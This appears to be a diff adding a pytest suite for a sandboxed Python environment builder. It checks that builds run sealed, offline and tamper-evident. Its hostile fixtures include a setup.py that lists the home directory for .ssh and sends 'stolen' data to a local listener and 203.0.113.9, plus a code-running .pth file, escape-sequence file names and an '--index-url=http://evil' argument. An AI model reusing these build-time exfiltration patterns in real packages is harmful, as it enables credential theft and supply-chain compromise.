@@ -1,0 +1,359 @@
+"""Environments: built with an index in reach and nothing else, sealed, and run without a network.
+
+The packages come from an index that the test serves on 127.0.0.1, so that each can be as hostile as it likes.
+"""
+
+import base64
+import contextlib
+import hashlib
+import http.server
+import io
+import json
+import os
+import pathlib
+import re
+import signal
+import socket
+import subprocess
+import tarfile
+import threading
+import time
+import zipfile
+
+import harness
+import pytest
+
+PYTHON = "/usr/bin/python3"
+
+
+def wheel(name, version, files):
+    """The bytes of a wheel with these files, and no others but its metadata."""
+    info = f"{name}-{version}.dist-info"
+    files = {
+        **files,
+        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nLicense: MIT\n",
+        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+    }
+    record = ""
+    for path, text in files.items():
+        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
+        record += f'"{path}",sha256={digest},{len(text.encode())}\n' if "," in path else f"{path},sha256={digest},{len(text.encode())}\n"
+    files[f"{info}/RECORD"] = record + f"{info}/RECORD,,\n"
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for path, text in files.items():
+            archive.writestr(path, text)
+    return out.getvalue()
+
+
+def source(name, version, files):
+    """The bytes of a source distribution."""
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w:gz") as archive:
+        for path, text in {"PKG-INFO": f"Metadata-Version: 1.2\nName: {name}\nVersion: {version}\n", **files}.items():
+            entry = tarfile.TarInfo(f"{name}-{version}/{path}")
+            entry.size = len(text.encode())
+            archive.addfile(entry, io.BytesIO(text.encode()))
+    return out.getvalue()
+
+
+class Index:
+    """The simple repository API (PEP 503) over plain HTTP, on this machine."""
+
+    def __init__(self):
+        self.files, self.asked = {}, []
+        index = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):
+                index.asked.append(self.path)
+                parts = self.path.strip("/").split("/")
+                if parts[0] == "simple" and len(parts) == 2:
+                    links = "".join(
+                        f'<a href="/files/{name}#sha256={hashlib.sha256(data).hexdigest()}">{name}</a><br>\n'
+                        for name, data in index.files.items()
+                        if name.split("-")[0].lower().replace("_", "-") == parts[1]
+                    )
+                    self.answer("text/html", f"<!DOCTYPE html><html><body>{links}</body></html>".encode(), 200 if links else 404)
+                elif parts[0] == "files" and parts[1] in index.files:
+                    self.answer("application/octet-stream", index.files[parts[1]])
+                else:
+                    self.answer("text/plain", b"no", 404)
+
+            def answer(self, kind, data, status=200):
+                self.send_response(status)
+                self.send_header("Content-Type", kind)
+                self.send_header("Content-Length", str(len(data)))
+                self.end_headers()
+                self.wfile.write(data)
+
+            def log_message(self, *words):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}/simple"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture(scope="module")
+def index():
+    index = Index()
+    for version in ("1.0", "2.0"):
+        name = f"plain-{version}-py3-none-any.whl"
+        index.files[name] = wheel("plain", version, {"plain.py": f"version = {version!r}\n", "plain_data/d.txt": "data"})
+    yield index
+    index.close()
+
+
+class Store:
+    """A store of its own, on which `cellwall env` is run."""
+
+    def __init__(self, site, index, name):
+        self.site, self.data = site, site.root / name
+        self.environment = {"XDG_DATA_HOME": str(self.data), "PIP_CONFIG_FILE": "/dev/null", "PIP_INDEX_URL": index.url,
+                            "PIP_FIND_LINKS": "", "https_proxy": "", "HTTPS_PROXY": "", "http_proxy": "", "ALL_PROXY": "",
+                            "all_proxy": ""}
+        self.place = self.data / "cellwall" / "environments"
+
+    def env(self, *words, check=False, timeout=120):
+        return self.site.run("env", *words, check=check, timeout=timeout * harness.PATIENCE, env=self.environment)
+
+    def create(self, name, *words):
+        return self.env("create", name, "--python", PYTHON, "--no-kernel", *words)
+
+    def record(self, name):
+        return json.loads(self.env("show", name, "--json", check=True).stdout)
+
+    def tree(self, name):
+        return self.place / "trees" / self.record(name)["record"]["tree"] / "tree"
+
+
+@pytest.fixture
+def store(site, index, request):
+    return Store(site, index, "store-" + hashlib.sha256(request.node.name.encode()).hexdigest()[:8])
+
+
+def left_over(store):
+    return sorted(path.name for path in (store.place / "builds").glob("*"))
+
+
+def test_from_a_private_index_to_a_kernel(site, store, index, launch):
+    made = store.create("course", "plain==1.0")
+    assert made.returncode == 0, made.stdout + made.stderr
+    assert "reached 127.0.0.1" in made.stdout and "blocked" not in made.stdout
+    shown = store.record("course")
+    assert [(p["name"], p["version"], p["licence"]) for p in shown["packages"]] == [("plain", "1.0", "MIT")]
+    assert shown["record"]["reached"][0]["host"] == "127.0.0.1"
+    assert left_over(store) == []
+    tree = store.tree("course")
+    module = next(tree.glob("lib/python3*/site-packages/plain.py"))
+    assert module.stat().st_mode & 0o777 == 0o444 and module.parent.stat().st_mode & 0o777 == 0o555
+    assert store.env("verify", "course").returncode == 0
+    # and a kernel of it has no network, reads it and cannot change it
+    code = (
+        "import plain, sys, socket\n"
+        "out = [plain.version, sys.prefix, bool(plain.__cached__)]\n"
+        "for attempt in (lambda: open(plain.__file__, 'a'), lambda: socket.create_connection((%r, %d), 2)):\n"
+        "    try:\n        attempt(); out.append('done')\n"
+        "    except OSError as error:\n        out.append(type(error).__name__)\n"
+        "print(*out, flush=True)\n" % index.server.server_address
+    )
+    kernel = ("/env/bin/python", "-c", code, "{inner_connection_file}")
+    project = site.project()
+    started = launch(*kernel, options=("--env", "course", "--verify"), cwd=project, env={**site.environment, **store.environment})
+    started.wait(30)
+    assert re.search(r"1\.0 /env True (OSError|PermissionError) ConnectionRefusedError", started.log), started.log
+    # a lock is enough to make the same again, elsewhere
+    lock = site.root / "course.lock"
+    lock.write_text(store.env("show", "course", "--lock", check=True).stdout)
+    other = Store(site, index, store.data.name + "-other")
+    again = other.create("again", "--lock", "-r", str(lock))
+    assert again.returncode == 0, again.stdout + again.stderr
+    assert other.record("again")["record"]["tree"] == shown["record"]["tree"]
+
+
+def test_generations(site, store):
+    store.create("g", "plain==1.0").check_returncode()
+    first = store.record("g")["record"]["tree"]
+    assert "there is an environment" in store.create("g", "plain").stderr
+    updated = store.env("update", "g", "plain")
+    assert updated.returncode == 0, updated.stdout + updated.stderr
+    assert store.env("diff", "g").stdout == "plain 1.0 -> 2.0\n"
+    store.env("rollback", "g", check=True)
+    assert store.record("g")["record"]["tree"] == first
+    # to a file and back: the same tree, wherever it is read
+    file = site.root / "g.bundle"
+    file.unlink(missing_ok=True)
+    store.env("export", "g", str(file), check=True)
+    other = Store(site, Index(), store.data.name + "-import")
+    other.env("import", "h", str(file), check=True)
+    assert other.record("h")["record"]["tree"] == first and other.env("verify", "h").returncode == 0
+    file.write_bytes(file.read_bytes()[:-100])
+    assert other.env("import", "cut", str(file)).returncode == 1
+    store.env("remove", "g", check=True)
+    assert list((store.place / "trees").iterdir()) == [] and "g  " not in store.env("list").stdout
+
+
+def test_every_changed_byte_is_found(site, store, launch):
+    store.create("t", "plain").check_returncode()
+    tree = store.tree("t")
+    module = next(tree.glob("lib/python3*/site-packages/plain.py"))
+    text = module.read_bytes()
+    os.chmod(module, 0o644)
+    module.write_bytes(text.replace(b"2", b"3"))
+    os.chmod(module, 0o444)
+    found = store.env("verify", "t")
+    assert found.returncode == 1 and "plain.py has other bytes" in found.stdout
+    started = launch("/env/bin/python", "-c", "print('ran')", "{inner_connection_file}", options=("--env", "t", "--verify"),
+                     env={**site.environment, **store.environment})
+    started.wait(30)
+    assert "ran" not in started.log and "not as it was sealed" in started.log
+    os.chmod(module.parent, 0o755)
+    (module.parent / "more.pth").write_text("import os")
+    module.unlink()
+    found = store.env("verify", "t").stdout
+    assert "more.pth was not built" in found and "plain.py is missing" in found
+
+
+SETUP = """
+import os, socket, urllib.request
+from setuptools import setup
+seen = []
+for place in (%(home)r, os.path.expanduser("~")):
+    try:
+        seen += [place + ":" + name for name in os.listdir(place) if name not in (".cache",)]
+    except OSError as error:
+        seen.append(type(error).__name__)
+for target in (("127.0.0.1", %(port)d), ("203.0.113.9", 80)):
+    try:
+        socket.create_connection(target, 2).sendall(b"stolen")
+        seen.append("reached")
+    except OSError as error:
+        seen.append(type(error).__name__)
+try:
+    urllib.request.urlopen("http://127.0.0.1:%(port)d/stolen", timeout=5)
+    seen.append("reached")
+except OSError as error:
+    seen.append(type(error).__name__)
+with open("hostile_seen.py", "w") as file:
+    file.write("seen = " + repr(seen))
+setup(name="hostile", version="1", py_modules=["hostile_seen"])
+"""
+
+
+def test_a_build_script_sees_and_reaches_nothing(site, store, index):
+    reached = []
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.settimeout(0.2)
+    done = threading.Event()
+
+    def listen():
+        while not done.is_set():
+            with contextlib.suppress(TimeoutError):
+                reached.append(listener.accept())
+
+    thread = threading.Thread(target=listen)
+    thread.start()
+    script = SETUP % {"home": str(site.home), "port": listener.getsockname()[1]}
+    # outside, the same script sees the home and reaches the listener
+    direct = site.project()
+    (direct / "setup.py").write_text(script.replace("from setuptools import setup", "setup = lambda **_: None"))
+    subprocess.run([PYTHON, "setup.py"], cwd=direct, check=True, timeout=60,
+                   env={**site.environment, "http_proxy": "", "no_proxy": "*"})
+    direct_seen = (direct / "hostile_seen.py").read_text()
+    assert ".ssh" in direct_seen and "reached" in direct_seen
+    deadline = time.monotonic() + 5
+    while not reached and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert reached
+    reached.clear()
+    index.files["hostile-1.tar.gz"] = source("hostile", "1", {"setup.py": script})
+    for name in os.listdir("/usr/share/python-wheels"):
+        if name.startswith("setuptools-"):
+            index.files[name] = pathlib.Path("/usr/share/python-wheels", name).read_bytes()
+    # what a build needs, from the same index
+    index.files["wheel-0.40-py3-none-any.whl"] = wheel("wheel", "0.40", {"wheel/__init__.py": ""})
+    made = store.create("hostile", "hostile")
+    done.set()
+    thread.join()
+    listener.close()
+    assert reached == []
+    if made.returncode == 0:  # the system's setuptools may want another package that the index has not
+        module = next(store.tree("hostile").glob("lib/python3*/site-packages/hostile_seen.py")).read_text()
+        assert ".ssh" not in module and "reached" not in module
+    assert "blocked: the build tried to reach 127.0.0.1 port" in made.stdout, made.stdout + made.stderr
+
+
+def test_hostile_names(site, store, index):
+    for name, files in {
+        "newline": {"a\nb.py": ""},
+        "escape": {"a\x1b[2Jb.py": ""},
+    }.items():
+        index.files[f"{name}-1-py3-none-any.whl"] = wheel(name, "1", files)
+        made = store.create(name, name)
+        assert made.returncode == 1 and "\x1b" not in made.stdout + made.stderr, made.stdout
+        assert left_over(store) == [] and not (store.place / "names" / name).exists()
+    # outside its own place pip itself puts nothing, and a .pth file is but a file
+    index.files["pth-1-py3-none-any.whl"] = wheel(
+        "pth", "1", {"p.pth": f"import os; os.mkdir({str(site.root / 'pth-ran')!r})\n", "x.py": ""}
+    )
+    made = store.create("pth", "pth")
+    assert made.returncode == 0, made.stdout + made.stderr
+    store.env("verify", "pth", check=True)
+    store.env("show", "pth", "--sbom", check=True)
+    assert not (site.root / "pth-ran").exists()
+
+
+def test_words_that_are_no_requirements(store):
+    for word in ("-e .", "--index-url=http://evil", "#x", "/etc", "a\nb"):
+        assert store.env("create", "x", "--", word).returncode == 1
+    for name in ("../x", "", ".x", "a/b", "x" * 65):
+        assert store.env("create", "--", name, "plain").returncode == 1
+    assert "there is no environment" in store.env("show", "nothing").stderr
+    assert store.env("frobnicate").returncode == 2
+
+
+def begin(store, *words):
+    return subprocess.Popen([store.site.cellwall, "env", *words], env={**store.site.environment, **store.environment}, cwd=store.site.root,
+                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+
+
+def test_killed_builds_leave_nothing_half_made(site, store):
+    store.create("k", "plain==1.0").check_returncode()
+    before = store.record("k")
+    for i in range(6 if not harness.SLOW else 30):
+        build = begin(store, "update", "k", "plain==2.0")
+        time.sleep(0.05 + 0.1 * (i % 15))
+        build.send_signal(signal.SIGKILL)
+        build.communicate(timeout=60)
+        now = store.record("k")
+        assert now == before or now["packages"][0]["version"] == "2.0"
+        store.env("verify", "k", check=True)
+    deadline = time.monotonic() + 30 * harness.PATIENCE
+    while time.monotonic() < deadline:  # the last supervisor may still be ending
+        if "removed" in store.env("gc").stdout and left_over(store) == []:
+            break
+        time.sleep(0.2)
+    assert left_over(store) == []
+
+
+def test_two_builds_of_one_name(store):
+    builds = [begin(store, "create", "two", "--python", PYTHON, "--no-kernel", "plain") for _ in range(2)]
+    said = [build.communicate(timeout=120 * harness.PATIENCE)[0] for build in builds]
+    codes = sorted(build.returncode for build in builds)
+    assert codes in ([0, 1], [0, 0]), said
+    assert codes == [0, 0] or any("being built" in text or "already" in text for text in said), said
+    store.env("verify", "two", check=True)
+
+
+def test_interrupt(store):
+    build = begin(store, "create", "stop", "--python", PYTHON, "--no-kernel", "plain")
+    time.sleep(1)
+    build.send_signal(signal.SIGINT)
+    out, _ = build.communicate(timeout=60)
+    assert build.returncode in (130, 0), out
+    assert left_over(store) == []
